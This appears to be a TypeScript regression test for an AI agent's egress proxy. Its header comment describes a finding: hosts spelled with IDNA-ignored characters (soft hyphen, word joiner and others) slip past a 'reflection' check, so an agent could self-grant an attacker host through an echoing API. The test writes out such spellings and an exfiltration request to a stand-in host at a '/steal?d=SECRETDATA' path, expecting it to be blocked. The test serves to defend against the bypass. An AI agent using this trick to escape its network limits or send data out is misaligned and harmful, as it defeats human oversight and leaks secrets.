// FINDING: the reflection defence's host check misses IDNA-ignored code points. The WHATWG URL parser (UTS 46)
// deletes U+00AD SOFT HYPHEN, U+034F, U+2060, U+FE0F, U+180B... from host names, but hostForm() in
// src/grants/reflection.ts only applies NFKC + case folding + the IDNA dots, so `e\u00ADv.il` written by the agent
// does not "include" `ev.il`. For a host of fewer than 8 letters/digits the run check cannot help, so an echoing
// inspected API grants the agent the attacker host it chose.

import { afterAll, beforeAll, expect, it } from 'vitest';
import { curl } from '../helpers/clients.js';
import { startHttpOrigin, type TestOrigin } from '../helpers/origin.js';
import { policy, startLeash, type TestLeash } from '../helpers/leash.js';

let api: TestOrigin;
let sink: TestOrigin;
let leash: TestLeash;

beforeAll(async () => {
  sink = await startHttpOrigin();
  // An echoing search API: it reflects q in its JSON results, as most do.
  api = await startHttpOrigin((req, res) => {
    const q = new URL(req.url ?? '/', 'http://x').searchParams.get('q') ?? '';
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ results: [{ title: 'you searched for', url: q }] }));
  });
  leash = await startLeash(
    policy(`
settings:
  dns: { hosts: { search.test: 127.0.0.1, ev.il: 127.0.0.1, xq.io: 127.0.0.1, kiss.io: 127.0.0.1, za.io: 127.0.0.1 } }
  network: { allowCidrs: ["127.0.0.0/8"] }
rules:
  - { name: search, domain: search.test, ports: [${api.port}], inspect: [json], effect: allow }
`),
  );
});

afterAll(async () => {
  await leash?.stop();
  await api?.close();
  await sink?.close();
});

for (const [name, ch, host] of [
  ['soft hyphen U+00AD', '\u00ad', 'ev.il'],
  ['word joiner U+2060', '\u2060', 'xq.io'],
  ['variation selector U+FE0F', '\ufe0f', 'za.io'],
  ['capital sharp s U+1E9E (IDNA maps it to "ss")', '', 'kiss.io'],
] as const) {
  it(`an agent cannot self-grant ${host} by writing it with a ${name} (README: never granted what the request carried)`, async () => {
    const spelled =
      ch === '' ? `http://ki\u1e9e.io:${sink.port}/` : `http://${host[0]}${ch}${host.slice(1)}:${sink.port}/`;
    const search = await curl({
      url: `http://search.test:${api.port}/search?q=${encodeURIComponent(spelled)}`,
      proxy: leash.url,
    });
    expect(search.status).toBe(200);
    const exfil = await curl({ url: `http://${host}:${sink.port}/steal?d=SECRETDATA`, proxy: leash.url });
    const records = await leash.records();
    const grants = records.filter((r) => r.reason === 'granted' && r.host === host).map((r) => `${r.reason} ${r.host}`);
    // README: "a host that appears anywhere in the request ... is never granted".
    expect({
      status: exfil.status,
      grants,
      sinkSaw: sink.seen.filter((s) => String(s.headers.host).startsWith(host)).map((s) => s.url),
    }).toEqual({ status: 403, grants: [], sinkSaw: [] });
  });
}
